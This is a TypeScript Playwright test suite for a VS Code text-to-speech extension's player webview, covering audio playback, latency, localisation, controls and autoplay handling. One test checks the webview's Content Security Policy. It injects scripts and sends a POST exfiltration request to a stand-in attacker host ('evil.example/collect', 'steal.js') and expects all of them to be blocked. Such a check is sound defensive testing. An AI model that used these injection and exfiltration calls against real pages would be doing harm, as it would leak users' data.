// The player webview's script in a real browser engine (Debian Chromium via
// playwright-core): real Web Audio, real timing, the autoplay-gesture path.

import * as assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import * as path from 'node:path';
import { randomBytes } from 'node:crypto';
import { type Browser, type Page, chromium } from 'playwright-core';
import { playerHtml } from '../../src/player/html';
import type { FromPlayer, ToPlayer } from '../../src/player/messages';

const root = path.join(__dirname, '..', '..', '..');
/* eslint-disable @typescript-eslint/no-explicit-any -- page.evaluate callbacks run in the browser */

/** The page is served from this origin (as VS Code serves webview resources), under the real Content Security Policy. */
const ORIGIN = 'https://webview.test';

function servedFiles(nonce: string, l10nBundle?: Record<string, string>): Record<string, { body: string; contentType: string }> {
  const html = playerHtml({
    nonce,
    cspSource: ORIGIN,
    scriptUri: `${ORIGIN}/dist/player.js`,
    styleUri: `${ORIGIN}/media/player.css`,
    l10nBundle,
  });
  return {
    '/index.html': { body: html, contentType: 'text/html' },
    '/dist/player.js': { body: readFileSync(path.join(root, 'dist', 'player.js'), 'utf8'), contentType: 'text/javascript' },
    '/media/player.css': { body: readFileSync(path.join(root, 'media', 'player.css'), 'utf8'), contentType: 'text/css' },
  };
}

function tone(samples: number): number[] {
  return Array.from({ length: samples }, (_, i) => Math.round(Math.sin((i * 2 * Math.PI * 440) / 24000) * 8000));
}

/**
 * Opens the player page; `emulate` runs first in the page (before VS Code's API and the player's script);
 * `l10nBundle` is the translation the extension hands the page.
 */
async function openPlayer(target: { newPage(): Promise<Page> }, emulate?: () => void, l10nBundle?: Record<string, string>): Promise<Page> {
  const page = await target.newPage();
  if (emulate) await page.addInitScript(emulate);
  const files = servedFiles(randomBytes(16).toString('base64'), l10nBundle);
  await page.route(`${ORIGIN}/**`, (route) => {
    const file = files[new URL(route.request().url()).pathname];
    return file ? route.fulfill({ status: 200, body: file.body, contentType: file.contentType }) : route.fulfill({ status: 404, body: '' });
  });
  // What VS Code provides to every webview before its scripts run.
  await page.addInitScript(() => {
    const w = globalThis as unknown as { reports: unknown[]; reportedAt: number[]; acquireVsCodeApi: () => unknown };
    w.reports = [];
    w.reportedAt = [];
    // The webview's state survives a reload of the page in VS Code; here, of the page.
    const stateKey = 'vscode-webview-state';
    w.acquireVsCodeApi = () => ({
      postMessage: (m: unknown) => {
        w.reports.push(m);
        w.reportedAt.push(performance.timeOrigin + performance.now());
      },
      getState: () => JSON.parse((globalThis as any).sessionStorage.getItem(stateKey) ?? 'null') ?? undefined,
      setState: (state: unknown) => (globalThis as any).sessionStorage.setItem(stateKey, JSON.stringify(state)),
    });
  });
  await page.goto(`${ORIGIN}/index.html`);
  await waitForReport(page, (m) => m.type === 'ready');
  return page;
}

async function send(
  page: Page,
  message: ToPlayer | { type: 'audio'; readingId: number; pcm: number[]; sampleRate: number },
): Promise<void> {
  // Resolves once the page has handled the message: a listener added now runs after the player's own
  // (listeners run in the order they were added), in the same dispatch.
  await page.evaluate(
    (m: any) =>
      new Promise<void>((resolve) => {
        const data = m.type === 'audio' ? { ...m, pcm: new Uint8Array(new Int16Array(m.pcm as number[]).buffer) } : m;
        (globalThis as any).addEventListener('message', () => resolve(), { once: true });
        (globalThis as any).postMessage(data, '*');
      }),
    message as never,
  );
}

async function reports(page: Page): Promise<FromPlayer[]> {
  return page.evaluate(() => (globalThis as unknown as { reports: FromPlayer[] }).reports);
}

async function waitForReport(page: Page, predicate: (m: FromPlayer) => boolean, timeoutMs = 5000): Promise<FromPlayer> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const found = (await reports(page)).find(predicate);
    if (found) return found;
    if (Date.now() > deadline) throw new Error(`no such report; got ${JSON.stringify((await reports(page)).map((r) => r.type))}`);
    await new Promise((r) => setTimeout(r, 20));
  }
}

const chromiumPath = process.env.CHROMIUM ?? '/usr/bin/chromium';
const flags = ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--no-first-run'];

describe('player webview script in Chromium', function () {
  this.timeout(30_000);
  let browser: Browser;

  before(async function () {
    if (!existsSync(chromiumPath))
      throw new Error(`Chromium not found at ${chromiumPath}: install it (sudo bash scripts/e2e/install-system.sh) or set CHROMIUM`);
    browser = await chromium.launch({
      executablePath: chromiumPath,
      headless: true,
      args: [...flags, '--autoplay-policy=no-user-gesture-required'],
    });
  });
  after(async () => browser?.close());

  it('plays frames gaplessly as they arrive and reports started, then ended with every sample played', async () => {
    const page = await openPlayer(browser);
    await send(page, { type: 'begin', readingId: 1, text: 'Hello world', sampleRate: 24000 });
    // Frames of 100 ms come every 40 ms, posted by a timer in the page (as the extension posts them),
    // not one test round trip at a time: a busy test machine must not make gaps the player did not.
    const total = await page.evaluate(async () => {
      let sent = 0;
      for (let i = 0; i < 10; i++) {
        const samples = 2400 + (i % 3);
        const pcm = new Int16Array(samples);
        for (let s = 0; s < samples; s++) pcm[s] = Math.round(Math.sin(((sent + s) * 2 * Math.PI * 440) / 24000) * 8000);
        sent += samples;
        (globalThis as any).postMessage({ type: 'audio', readingId: 1, pcm: new Uint8Array(pcm.buffer), sampleRate: 24000 }, '*');
        await new Promise((r) => setTimeout(r, 40));
      }
      return sent;
    });
    await waitForReport(page, (m) => m.type === 'started');
    await send(page, { type: 'end', readingId: 1 });
    const ended = (await waitForReport(page, (m) => m.type === 'ended', 8000)) as Extract<FromPlayer, { type: 'ended' }>;
    assert.equal(ended.stopped, false);
    assert.equal(ended.samplesPlayed, total);
    assert.ok(!(await reports(page)).some((m) => m.type === 'underrun'), 'no gaps while frames kept coming');
    assert.match((await page.textContent('#now')) ?? '', /Hello world/);
    assert.equal(await page.textContent('#status'), 'Finished.');
    await page.close();
  });

  it('answers a ping with its clock at once, and reports "started" once the first audio is audible, with when it came and was scheduled', async () => {
    const page = await openPlayer(browser);
    const ready = (await waitForReport(page, (m) => m.type === 'ready')) as Extract<FromPlayer, { type: 'ready' }>;
    const { navigationAt, scriptAt, contextAt, readyAt } = ready.startup;
    assert.ok(navigationAt <= scriptAt && scriptAt <= contextAt && contextAt <= readyAt, JSON.stringify(ready.startup));
    const pingedAt = await page.evaluate(() => performance.timeOrigin + performance.now());
    await send(page, { type: 'ping', id: 7 });
    const pong = (await waitForReport(page, (m) => m.type === 'pong')) as Extract<FromPlayer, { type: 'pong' }>;
    assert.equal(pong.id, 7);
    assert.ok(pong.at >= pingedAt, 'the same clock as the page');
    await send(page, { type: 'begin', readingId: 3, text: 'Hello', sampleRate: 24000 });
    const sentAt = await page.evaluate(() => performance.timeOrigin + performance.now());
    await send(page, { type: 'audio', readingId: 3, pcm: tone(4800), sampleRate: 24000 });
    const started = (await waitForReport(page, (m) => m.type === 'started')) as Extract<FromPlayer, { type: 'started' }>;
    assert.ok(sentAt <= started.receivedAt, 'received after it was sent');
    assert.ok(started.receivedAt <= started.scheduledAt && started.scheduledAt <= started.audibleAt, JSON.stringify(started));
    assert.ok(started.audibleAt - started.scheduledAt >= started.outputLatencyMs, 'audible counts the output latency in');
    const index = (await reports(page)).findIndex((m) => m.type === 'started');
    const reportedAt = await page.evaluate((i) => (globalThis as unknown as { reportedAt: number[] }).reportedAt[i], index);
    assert.ok(
      reportedAt >= started.audibleAt - 1,
      `reported when audible, not before (${(started.audibleAt - reportedAt).toFixed(1)} ms early)`,
    );
    await page.close();
  });

  it('shows its texts in the language of the translation the page carries, under the same Content Security Policy', async () => {
    const page = await openPlayer(browser, undefined, {
      'Starting…': 'Démarrage…',
      '{0} times': '{0} fois',
      Resume: 'Reprendre',
      'Stopped.': 'Arrêté.',
    });
    const errors: string[] = [];
    page.on('console', (m) => m.type() === 'error' && errors.push(m.text()));
    const shows = (selector: string, attribute: string | null, text: string) =>
      page.waitForFunction(
        ([selector, attribute, text]) => {
          const element = (globalThis as any).document.querySelector(selector);
          return (attribute ? element?.getAttribute(attribute) : element?.textContent) === text;
        },
        [selector, attribute, text] as const,
        { timeout: 5000 },
      );
    await send(page, { type: 'begin', readingId: 1, text: 'Bonjour', sampleRate: 24000 });
    await shows('#status', null, 'Démarrage…');
    await send(page, { type: 'setSpeed', speed: 1.5 });
    await shows('#speed', 'aria-valuetext', '1.5 fois');
    await send(page, { type: 'pause' });
    await shows('#playPause', 'aria-label', 'Reprendre');
    await send(page, { type: 'stop' });
    await shows('#status', null, 'Arrêté.');
    assert.deepEqual(errors, [], 'nothing refused or failing in the page');
    await page.close();
  });

  it('plays at the lowest output latency, moves one step up after a reading in which the audio device glitched, and tries lower again after clean readings', async () => {
    // Device underruns cannot be caused on demand: the count Chromium keeps is stood in for, and the contexts created are noted.
    const page = await openPlayer(browser, () => {
      const w = globalThis as any;
      w.glitches = 0;
      w.latencyHints = [];
      const Real = w.AudioContext;
      w.AudioContext = class extends Real {
        constructor(options: any) {
          super(options);
          w.latencyHints.push(options?.latencyHint);
        }
        get playbackStats() {
          return { underrunEvents: w.glitches, underrunDuration: 0, totalDuration: 0 };
        }
      };
    });
    const hints = () => page.evaluate(() => (globalThis as any).latencyHints as unknown[]);
    const read = async (id: number, glitchesDuring: number, samples = 2400) => {
      await send(page, { type: 'begin', readingId: id, text: 'Hello', sampleRate: 24000 });
      await send(page, { type: 'audio', readingId: id, pcm: tone(samples), sampleRate: 24000 });
      await waitForReport(page, (m) => m.type === 'started' && m.readingId === id);
      await page.evaluate((n) => ((globalThis as any).glitches += n), glitchesDuring);
      await send(page, { type: 'end', readingId: id });
      return (await waitForReport(page, (m) => m.type === 'ended' && m.readingId === id)) as Extract<FromPlayer, { type: 'ended' }>;
    };
    assert.deepEqual(await hints(), [0], 'the lowest latency first');
    assert.equal((await read(1, 1)).glitches, 1);
    await read(2, 0);
    assert.deepEqual(await hints(), [0], 'one glitch alone changes nothing');
    assert.equal((await read(3, 3)).glitches, 3);
    assert.ok(
      (await reports(page)).some((m) => m.type === 'log' && /glitched 3 times/.test(m.message)),
      'the extension is told why',
    );
    await read(4, 0);
    assert.deepEqual(await hints(), [0, 'interactive'], 'the next reading plays at the next latency');
    await page.reload();
    await waitForReport(page, (m) => m.type === 'ready');
    assert.deepEqual(await hints(), ['interactive'], 'kept when the player is created again');
    // Readings of a tenth of a second say too little about the device: they do not count as clean.
    for (let id = 5; id < 5 + 12; id++) await read(id, 0);
    assert.deepEqual(await hints(), ['interactive'], 'short clean readings move nothing');
    // Nine clean readings of a second or more already heard (kept in the webview state), then the tenth.
    await page.evaluate(() => {
      const w = globalThis as any;
      const state = JSON.parse(w.sessionStorage.getItem('vscode-webview-state'));
      w.sessionStorage.setItem('vscode-webview-state', JSON.stringify({ outputLatency: { ...state.outputLatency, clean: 9 } }));
    });
    await page.reload();
    await waitForReport(page, (m) => m.type === 'ready');
    await read(20, 0, 26_400);
    assert.ok(
      (await reports(page)).some((m) => m.type === 'log' && /10 readings without a glitch; .* tries latencyHint 0 again/.test(m.message)),
      'the extension is told',
    );
    await read(21, 0);
    assert.deepEqual(await hints(), ['interactive', 0], 'the next reading plays at the lowest latency again');
    await page.close();
  });

  it('enforces its Content Security Policy: injected scripts, remote resources and requests are refused', async () => {
    const page = await openPlayer(browser);
    const outcome = await page.evaluate(async () => {
      const w = globalThis as any;
      const document = w.document;
      const refused: string[] = [];
      document.addEventListener('securitypolicyviolation', (e: any) => refused.push(e.effectiveDirective));
      w.ran = [];
      const inline = document.createElement('script');
      inline.textContent = 'window.ran.push("inline script")';
      document.body.append(inline);
      const remote = document.createElement('script');
      remote.src = 'https://evil.example/steal.js';
      document.body.append(remote);
      const handler = document.createElement('div');
      handler.innerHTML = '<img src="https://evil.example/pixel.png" onerror="window.ran.push(\'handler\')">';
      document.body.append(handler);
      await fetch('https://evil.example/collect', { method: 'POST', body: 'code' }).catch(() => undefined);
      await new Promise((r) => setTimeout(r, 300));
      return { refused: [...new Set(refused)].sort(), ran: w.ran as string[] };
    });
    assert.deepEqual(outcome.ran, [], 'nothing injected ran');
    for (const directive of ['connect-src', 'img-src', 'script-src-attr', 'script-src-elem'])
      assert.ok(outcome.refused.includes(directive), `${directive} refused: ${outcome.refused}`);
    assert.ok(
      (await reports(page)).some((m) => m.type === 'ready'),
      "while the player's own script runs",
    );
    await page.close();
  });

  it('a failed reading says it failed and why, after the audio that arrived has played; with no audio at once', async () => {
    const page = await openPlayer(browser);
    await send(page, { type: 'begin', readingId: 11, text: 'Half of it arrives.', sampleRate: 24000 });
    await send(page, { type: 'audio', readingId: 11, pcm: tone(2400), sampleRate: 24000 });
    await send(page, { type: 'end', readingId: 11, error: 'The connection to http://127.0.0.1:8880 broke in the middle of the audio.' });
    const ended = (await waitForReport(page, (m) => m.type === 'ended')) as Extract<FromPlayer, { type: 'ended' }>;
    assert.equal(ended.samplesPlayed, 2400, 'what arrived was played');
    assert.equal(await page.textContent('#status'), 'Failed: The connection to http://127.0.0.1:8880 broke in the middle of the audio.');
    await send(page, { type: 'begin', readingId: 12, text: 'Nothing arrives.', sampleRate: 24000 });
    await send(page, { type: 'end', readingId: 12, error: 'No Kokoro server is answering at http://127.0.0.1:8880 (connection refused).' });
    await waitForReport(page, (m) => m.type === 'ended' && m.readingId === 12);
    assert.equal(await page.textContent('#status'), 'Failed: No Kokoro server is answering at http://127.0.0.1:8880 (connection refused).');
    assert.equal(await page.textContent('#now'), 'Nothing arrives.');
    await page.close();
  });

  it('"Now reading" shows the chunk being heard, not the one being fetched, and the whole text when done', async () => {
    const page = await openPlayer(browser);
    const whole = 'Error on line 3: property name is missing in type user. JSON 514.';
    await send(page, { type: 'begin', readingId: 13, text: whole, sampleRate: 24000 });
    await send(page, { type: 'segment', readingId: 13, text: 'Error on line 3: property name is missing in type user.', index: 0 });
    await send(page, { type: 'audio', readingId: 13, pcm: tone(24000), sampleRate: 24000 });
    // The next chunk is fetched (and shown by the old player) while the first one is still heard.
    await send(page, { type: 'segment', readingId: 13, text: 'JSON 514.', index: 1 });
    await send(page, { type: 'audio', readingId: 13, pcm: tone(2400), sampleRate: 24000 });
    await waitForReport(page, (m) => m.type === 'started');
    assert.equal(await page.textContent('#now'), 'Error on line 3: property name is missing in type user.');
    await page.waitForFunction(() => (globalThis as any).document.getElementById('now').textContent === 'JSON 514.', undefined, {
      timeout: 5000,
    });
    await send(page, { type: 'end', readingId: 13 });
    await waitForReport(page, (m) => m.type === 'ended');
    assert.equal(await page.textContent('#now'), whole);
    assert.equal(await page.textContent('#status'), 'Finished.');
    await page.close();
  });

  it('reports each sentence (and word, when timed) as it becomes audible, in order, and not before', async () => {
    const page = await openPlayer(browser);
    await send(page, { type: 'begin', readingId: 21, text: 'One. Two words here.', sampleRate: 24000 });
    await send(page, { type: 'segment', readingId: 21, text: 'One.', index: 4 });
    await send(page, { type: 'audio', readingId: 21, pcm: tone(12000), sampleRate: 24000 });
    await send(page, { type: 'segment', readingId: 21, text: 'Two words here.', index: 5 });
    await send(page, { type: 'words', readingId: 21, segment: 5, starts: [0, 0.2, 0.4] });
    await send(page, { type: 'audio', readingId: 21, pcm: tone(18000), sampleRate: 24000 });
    await send(page, { type: 'end', readingId: 21 });
    await waitForReport(page, (m) => m.type === 'ended');
    const all = await reports(page);
    const heard = all.filter((m) => m.type === 'heard').map((m) => m.type === 'heard' && [m.segment, m.word]);
    assert.deepEqual(heard, [
      [4, undefined],
      [5, 0],
      [5, 1],
      [5, 2],
    ]);
    // Sentence 5 is heard about half a second (sentence 4's audio) after sentence 4, never before its audio plays.
    const at = (m: FromPlayer) => all.indexOf(m);
    const started = all.find((m) => m.type === 'started')!;
    assert.ok(
      at(started) < at(all.find((m) => m.type === 'heard' && m.segment === 5)!),
      'the second sentence is heard after audio started',
    );
    await page.close();
  });

  it('Previous, Repeat and Next: buttons and the arrow keys ask the extension, and the position is shown and announced only when asked', async () => {
    const page = await openPlayer(browser);
    await send(page, { type: 'begin', readingId: 22, text: 'A. B. C.', sampleRate: 24000 });
    await send(page, { type: 'segment', readingId: 22, text: 'A.', index: 0 });
    await send(page, { type: 'audio', readingId: 22, pcm: tone(48000), sampleRate: 24000 });
    await send(page, { type: 'position', readingId: 22, sentence: 1, sentences: 3, fraction: 0.3, announce: false });
    assert.equal(await page.textContent('#sentence'), 'Sentence 1 of 3');
    assert.equal(await page.getAttribute('#progress', 'value'), '0.3');
    assert.equal(await page.textContent('#moved'), '', 'an ordinary move along is not announced (it would talk over the reading)');
    await page.click('#next');
    await page.click('#previous');
    await page.click('#repeat');
    await page.focus('#now');
    await page.keyboard.press('ArrowRight');
    await page.keyboard.press('ArrowLeft');
    await page.keyboard.press('r');
    await page.click('#fromCursor');
    const actions = (await reports(page)).filter((m) => m.type === 'userAction').map((m) => m.type === 'userAction' && m.action);
    assert.deepEqual(actions, [
      'nextSentence',
      'previousSentence',
      'repeatSentence',
      'nextSentence',
      'previousSentence',
      'repeatSentence',
      'readFromCursor',
    ]);
    await send(page, { type: 'position', readingId: 22, sentence: 2, sentences: 3, fraction: 0.6, announce: true });
    assert.equal(await page.textContent('#moved'), 'Sentence 2 of 3', 'a move the user asked for is announced');
    await send(page, { type: 'stop' });
    assert.equal(await page.isDisabled('#next'), true);
    await page.close();
  });

  it('the system voice (the fallback): says each text after the one before, reports it started and heard, and ends the reading', async () => {
    // Chromium on Linux has no speech voices: the machine's own speechSynthesis is emulated, with what
    // Chrome does (a queue, one utterance at a time, start and end events; pause and resume).
    const page = await openPlayer(browser, () => {
      const w = globalThis as any;
      const queue: any[] = [];
      const said: string[] = (w.said = []);
      let paused = false;
      const next = () => {
        const u = queue[0];
        if (!u || paused || u.started) return;
        u.started = true;
        said.push(u.text);
        setTimeout(() => u.onstart?.({}), 5);
        setTimeout(() => {
          queue.shift();
          u.onend?.({});
          next();
        }, 60);
      };
      w.SpeechSynthesisUtterance = class {
        rate = 1;
        onstart: any;
        onend: any;
        onerror: any;
        constructor(public text: string) {}
      };
      const synth = {
        speak: (u: any) => {
          queue.push(u);
          next();
        },
        cancel: () => queue.splice(0),
        pause: () => (paused = true),
        resume: () => {
          paused = false;
          next();
        },
        getVoices: () => [{ name: 'Samantha' }, { name: 'Daniel' }],
        addEventListener: () => undefined,
      };
      Object.defineProperty(w, 'speechSynthesis', { value: synth, configurable: true });
    });
    assert.ok(
      (await reports(page)).some((m) => m.type === 'voices' && m.count === 2),
      'the player says how many voices it has',
    );
    await send(page, { type: 'begin', readingId: 31, text: 'One. Two.', sampleRate: 24000 });
    await send(page, { type: 'segment', readingId: 31, text: 'One.', index: 0 });
    await send(page, { type: 'speakText', readingId: 31, text: 'One.', rate: 1.5 });
    await waitForReport(page, (m) => m.type === 'spoke' && m.utterance === 0);
    await send(page, { type: 'segment', readingId: 31, text: 'Two.', index: 1 });
    await send(page, { type: 'speakText', readingId: 31, text: 'Two.', rate: 1.5 });
    await send(page, { type: 'end', readingId: 31 });
    const ended = await waitForReport(page, (m) => m.type === 'ended');
    assert.equal(ended.type === 'ended' && ended.stopped, false);
    const all = await reports(page);
    assert.deepEqual(await page.evaluate(() => (globalThis as any).said), ['One.', 'Two.']);
    assert.equal(all.filter((m) => m.type === 'started').length, 1, 'audio playing is reported once');
    assert.deepEqual(
      all.filter((m) => m.type === 'heard').map((m) => m.type === 'heard' && m.segment),
      [0, 1],
    );
    assert.ok(
      all.findIndex((m) => m.type === 'ended') > all.findIndex((m) => m.type === 'spoke' && m.utterance === 1),
      'ends after the last text',
    );
    await page.close();
  });

  it('says when the server is not Kokoro (the demo voice), and nothing for Kokoro', async () => {
    const page = await openPlayer(browser);
    assert.equal(await page.isVisible('#serverNote'), false);
    await send(page, { type: 'serverNote', text: "Demo voice (espeak-ng): the project's stand-in server, not Kokoro." });
    assert.equal(await page.isVisible('#serverNote'), true);
    assert.equal(await page.textContent('#serverNote'), "Demo voice (espeak-ng): the project's stand-in server, not Kokoro.");
    await send(page, { type: 'serverNote', text: '' });
    assert.equal(await page.isVisible('#serverNote'), false);
    await page.close();
  });

  it('reports running dry when audio comes later than it plays', async () => {
    const page = await openPlayer(browser);
    await send(page, { type: 'begin', readingId: 2, text: 'Slow server', sampleRate: 24000 });
    await send(page, { type: 'audio', readingId: 2, pcm: tone(1200), sampleRate: 24000 });
    await new Promise((r) => setTimeout(r, 300));
    await send(page, { type: 'audio', readingId: 2, pcm: tone(1200), sampleRate: 24000 });
    await waitForReport(page, (m) => m.type === 'underrun');
    await page.close();
  });

  it('stop silences at once and reports the reading ended as stopped', async () => {
    const page = await openPlayer(browser);
    await send(page, { type: 'begin', readingId: 3, text: 'Long', sampleRate: 24000 });
    await send(page, { type: 'audio', readingId: 3, pcm: tone(24000 * 5), sampleRate: 24000 });
    await waitForReport(page, (m) => m.type === 'started');
    await send(page, { type: 'stop' });
    const ended = (await waitForReport(page, (m) => m.type === 'ended')) as Extract<FromPlayer, { type: 'ended' }>;
    assert.equal(ended.stopped, true);
    assert.ok(ended.samplesPlayed < 24000 * 5);
    assert.equal(await page.textContent('#status'), 'Stopped.');
    await page.close();
  });

  it('ignores audio of an older reading after a new one began', async () => {
    const page = await openPlayer(browser);
    await send(page, { type: 'begin', readingId: 4, text: 'Old', sampleRate: 24000 });
    await send(page, { type: 'begin', readingId: 5, text: 'New', sampleRate: 24000 });
    await send(page, { type: 'audio', readingId: 4, pcm: tone(2400), sampleRate: 24000 });
    await send(page, { type: 'audio', readingId: 5, pcm: tone(1000), sampleRate: 24000 });
    await send(page, { type: 'end', readingId: 5 });
    const ended = (await waitForReport(page, (m) => m.type === 'ended' && m.readingId === 5, 5000)) as Extract<
      FromPlayer,
      { type: 'ended' }
    >;
    assert.equal(ended.samplesPlayed, 1000);
    await page.close();
  });

  it('plays audio at other sample rates (a WAV at 44.1 kHz) for its real duration', async () => {
    const page = await openPlayer(browser);
    await send(page, { type: 'begin', readingId: 6, text: 'Rate', sampleRate: 44100 });
    const started = Date.now();
    await send(page, { type: 'audio', readingId: 6, pcm: tone(22050), sampleRate: 44100 });
    await send(page, { type: 'end', readingId: 6 });
    const ended = (await waitForReport(page, (m) => m.type === 'ended', 5000)) as Extract<FromPlayer, { type: 'ended' }>;
    assert.equal(ended.samplesPlayed, 22050);
    assert.ok(Date.now() - started >= 400, 'half a second of 44.1 kHz audio lasts about half a second');
    await page.close();
  });

  it('pause and resume from the controls go to the extension as user actions; keyboard works too', async () => {
    const page = await openPlayer(browser);
    await send(page, { type: 'begin', readingId: 7, text: 'Controls', sampleRate: 24000 });
    await page.click('#playPause');
    await page.click('#stop');
    await page.focus('#now');
    await page.keyboard.press('Escape');
    const actions = (await reports(page)).filter((m) => m.type === 'userAction').map((m) => (m as { action: string }).action);
    assert.deepEqual(actions, ['togglePause', 'stop', 'stop']);
    assert.equal(await page.getAttribute('#playPause', 'aria-label'), 'Pause');
    await send(page, { type: 'pause' });
    assert.equal(await page.getAttribute('#playPause', 'aria-label'), 'Resume');
    await page.close();
  });

  it('Pause becoming Resume moves no control: the button keeps its width', async () => {
    const page = await openPlayer(browser);
    const layout = () =>
      page.evaluate(() =>
        ['playPause', 'stop', 'speed', 'speedValue'].map((id) => {
          const r = (globalThis as any).document.getElementById(id).getBoundingClientRect();
          return [id, r.left, r.width];
        }),
      );
    await send(page, { type: 'begin', readingId: 12, text: 'Layout', sampleRate: 24000 });
    const playing = await layout();
    assert.equal(await page.innerText('#playPause'), 'Pause');
    await send(page, { type: 'pause' });
    await page.waitForFunction(() => (globalThis as any).document.getElementById('playPause').getAttribute('aria-label') === 'Resume');
    assert.equal(await page.innerText('#playPause'), 'Resume');
    assert.deepEqual(await layout(), playing);
    await send(page, { type: 'resume' });
    assert.equal(await page.innerText('#playPause'), 'Pause');
    assert.deepEqual(await layout(), playing);
    await page.close();
  });

  it('an audio device slow to start is not taken for blocked audio: no gesture asked, the keyboard left alone', async () => {
    const page = await openPlayer(browser, () => {
      // A context that starts running 300 ms after it is asked to, without any gesture.
      const g = globalThis as any;
      const Real = g.AudioContext;
      g.AudioContext = class extends Real {
        constructor(...args: unknown[]) {
          super(...args);
          void super.suspend();
        }
        resume(): Promise<void> {
          return new Promise((resolve) => setTimeout(resolve, 300)).then(() => super.resume());
        }
      };
    });
    await send(page, { type: 'begin', readingId: 13, text: 'Slow device', sampleRate: 24000 });
    await send(page, { type: 'audio', readingId: 13, pcm: tone(2400), sampleRate: 24000 });
    await send(page, { type: 'end', readingId: 13 });
    await waitForReport(page, (m) => m.type === 'ended' && m.readingId === 13);
    assert.deepEqual(
      (await reports(page)).filter((m) => m.type === 'needsGesture'),
      [],
    );
    assert.equal(await page.isVisible('#enable'), false);
    await page.close();
  });

  it('when the browser blocks audio it asks for one gesture in the player, then plays what waited', async () => {
    // Desktop VS Code's rule (Electron autoplayPolicy 'user-gesture-required'), emulated: a context starts
    // suspended and resume() only takes effect while a real (trusted) click or key press is handled.
    // (navigator.userActivation cannot be used: Playwright evaluates scripts as user gestures.)
    const context = await browser.newContext();
    const page = await openPlayer(context, () => {
      const g = globalThis as any;
      const Real = g.AudioContext;
      let inGesture = false;
      for (const type of ['keydown', 'click', 'pointerdown']) {
        g.addEventListener(
          type,
          (e: any) => {
            if (!e.isTrusted) return;
            inGesture = true;
            setTimeout(() => (inGesture = false), 0);
          },
          true,
        );
      }
      g.AudioContext = class extends Real {
        allowed = false;
        constructor(...args: unknown[]) {
          super(...args);
          this.addEventListener('statechange', () => {
            if (!this.allowed && super.state === 'running') void super.suspend();
          });
          void super.suspend();
        }
        get state(): string {
          return this.allowed ? super.state : 'suspended';
        }
        resume(): Promise<void> {
          if (!inGesture) return new Promise(() => undefined);
          this.allowed = true;
          return super.resume();
        }
      };
    });
    try {
      await waitForReport(page, (m) => m.type === 'ready');
      assert.ok(!(await reports(page)).some((m) => m.type === 'audioUnlocked'), 'audio is not enabled yet');
      await send(page, { type: 'begin', readingId: 8, text: 'Blocked', sampleRate: 24000 });
      await send(page, { type: 'audio', readingId: 8, pcm: tone(2400), sampleRate: 24000 });
      await waitForReport(page, (m) => m.type === 'needsGesture');
      assert.equal(await page.isVisible('#enable'), true);
      assert.equal(
        await page.evaluate(() => (globalThis as any).document.activeElement?.id),
        'enable',
        'the Enable audio button has focus',
      );
      assert.match((await page.textContent('#status')) ?? '', /Enable audio/);
      await page.keyboard.press('Enter');
      await waitForReport(page, (m) => m.type === 'audioUnlocked');
      await waitForReport(page, (m) => m.type === 'started');
      await send(page, { type: 'end', readingId: 8 });
      const ended = (await waitForReport(page, (m) => m.type === 'ended')) as Extract<FromPlayer, { type: 'ended' }>;
      assert.equal(ended.samplesPlayed, 2400, 'the audio that waited for the gesture was played, not lost');
      assert.equal(await page.isVisible('#enable'), false);
      // The next reading reuses the unlocked context: no second gesture.
      await send(page, { type: 'begin', readingId: 9, text: 'Again', sampleRate: 24000 });
      await send(page, { type: 'audio', readingId: 9, pcm: tone(1200), sampleRate: 24000 });
      await send(page, { type: 'end', readingId: 9 });
      await waitForReport(page, (m) => m.type === 'ended' && m.readingId === 9);
      assert.equal((await reports(page)).filter((m) => m.type === 'needsGesture').length, 1);
    } finally {
      await context.close();
    }
  });
});
